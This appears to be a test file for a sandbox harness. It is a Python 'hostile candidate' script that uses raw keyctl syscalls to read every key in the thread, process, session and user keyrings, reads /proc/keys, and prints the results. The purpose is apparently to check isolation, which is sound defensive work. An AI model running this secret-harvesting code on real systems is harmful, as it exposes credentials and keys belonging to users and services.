# Hostile candidate: run only inside the sandbox. Reads every keyring it might share with the
# harness (session, user, user-session, process, thread) and /proc/keys.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NR_KEYCTL = 250 if os.uname().machine == "x86_64" else 219
KEYCTL_READ, KEYCTL_DESCRIBE = 11, 6
found = []
for ring in (-1, -2, -3, -4, -5):  # thread, process, session, user, user-session
    buf = ctypes.create_string_buffer(1 << 16)
    size = libc.syscall(NR_KEYCTL, KEYCTL_READ, ring, buf, len(buf))
    if size > 0:
        ids = [int.from_bytes(buf.raw[i:i + 4], "little") for i in range(0, min(size, len(buf)), 4)]
        for key in ids:
            for op in (KEYCTL_READ, KEYCTL_DESCRIBE):
                out = ctypes.create_string_buffer(4096)
                n = libc.syscall(NR_KEYCTL, op, key, out, len(out))
                if n > 0:
                    found.append(out.raw[:min(n, 4096)].decode("latin-1"))
try:
    found.append(open("/proc/keys").read())
except OSError as exc:
    found.append(f"/proc/keys: {exc}")
print(found)
